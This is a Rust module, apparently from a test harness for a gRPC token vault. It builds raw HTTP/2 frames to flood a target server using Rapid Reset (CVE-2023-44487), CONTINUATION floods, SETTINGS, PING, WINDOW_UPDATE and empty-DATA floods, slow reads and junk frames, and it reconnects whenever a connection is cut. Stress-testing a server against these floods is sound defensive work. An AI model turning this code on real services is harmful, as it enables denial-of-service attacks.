//! What attackers say. None of them reads an answer: what cannot be sent to them has to go somewhere.

use prost::Message as _;
use tokio_util::sync::CancellationToken;
use vault_engine::pb::vault_v1::GetTokenRequest;

use crate::frames::{CONTINUATION, DATA, HEADERS, PING, RST_STREAM, Raw, SET, fields, frame, headers, message};
use crate::installation::ENGINE;

/// A way to flood.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Attack {
    /// Calls, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// A block of fields that goes on for ever (RUSTSEC-2024-0332).
    Continuation,
    /// Settings, each of which wants to be acknowledged.
    Settings,
    /// Pings, the same.
    Ping,
    /// Data without any (RUSTSEC-2026-0258).
    EmptyData,
    /// Good calls by somebody with a key, whose answers are let through one byte at a time, and not even read.
    SlowRead,
    /// Permission to send one byte more, again and again.
    WindowUpdate,
    /// Frames that mean nothing any more, or never did.
    Unknown,
}

/// Who is flooded, and a key to its door.
#[derive(Debug, Clone)]
pub(crate) struct Target {
    pub(crate) address: String,
    pub(crate) key: String,
}

const PRIORITY: u8 = 2;
const WINDOW_UPDATE: u8 = 8;
/// `SETTINGS_INITIAL_WINDOW_SIZE` 0: nothing may be sent.
const CLOSED: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// How often something is said in one go.
const AT_ONCE: u32 = 200;

// === impl Attack ===

impl Attack {
    /// Floods until it is over, over one connection after the other where it is cut off. How many bytes were taken.
    pub(crate) async fn go_on(self, target: &Target, over: &CancellationToken) -> usize {
        let mut taken = 0;
        while !over.is_cancelled() {
            let mut connection = Raw::connect(&target.address).await;
            let mut stream = 1;
            let mut next = self.opening(target);
            loop {
                let sent = tokio::select! {
                    sent = connection.send(&next) => sent,
                    () = over.cancelled() => return taken,
                };
                if sent.is_err() {
                    break;
                }
                taken += next.len();
                next = self.batch(target, &mut stream);
            }
        }
        taken
    }

    fn opening(self, target: &Target) -> Vec<u8> {
        match self {
            Self::Continuation => frame(HEADERS, 0, 1, &call_with("k")),
            Self::EmptyData | Self::WindowUpdate => headers(1, &call_with(&target.key)),
            Self::SlowRead => frame(SET, 0, 0, &CLOSED),
            Self::RapidReset | Self::Settings | Self::Ping | Self::Unknown => Vec::new(),
        }
    }

    fn batch(self, target: &Target, stream: &mut u32) -> Vec<u8> {
        let repeated = |one: &[u8]| one.repeat(AT_ONCE as usize);
        match self {
            Self::RapidReset => calls(stream, |number| {
                let cancel = frame(RST_STREAM, 0, number, &8_u32.to_be_bytes());
                [headers(number, &call_with("k")), cancel].concat()
            }),
            Self::SlowRead if *stream > 1 => {
                let streams = (0..AT_ONCE).map(|number| 1 + 2 * number);
                streams.flat_map(|number| frame(WINDOW_UPDATE, 0, number, &1_u32.to_be_bytes())).collect()
            }
            Self::SlowRead => {
                let asked = GetTokenRequest { user_id: "ada".into(), platform: "gmail".into(), ..Default::default() };
                let asked = asked.encode_to_vec();
                calls(stream, |number| [headers(number, &call_with(&target.key)), message(number, &asked)].concat())
            }
            Self::Continuation => repeated(&frame(CONTINUATION, 0, 1, &fields(&[("x-more", "y".repeat(1_000))]))),
            Self::Settings => repeated(&frame(SET, 0, 0, &[0, 3, 0, 0, 0, 100])),
            Self::Ping => repeated(&frame(PING, 0, 0, b"anybody?")),
            Self::EmptyData => repeated(&frame(DATA, 0, 1, &[])),
            Self::WindowUpdate => repeated(&frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())),
            Self::Unknown => {
                let one = [frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]), frame(0xfa, 0, 0, &[7; 100])].concat();
                repeated(&one)
            }
        }
    }
}

/// The fields of a call with this key.
fn call_with(key: &str) -> Vec<u8> {
    fields(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/vault.v1.TokenVault/GetToken"),
        (":authority", "vault"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("x-engine-id", ENGINE),
        ("x-engine-key", key),
    ])
}

/// Many calls on streams that follow each other.
fn calls(stream: &mut u32, call: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = *stream;
    *stream += 2 * AT_ONCE;
    (0..AT_ONCE).flat_map(|number| call(first + 2 * number)).collect()
}
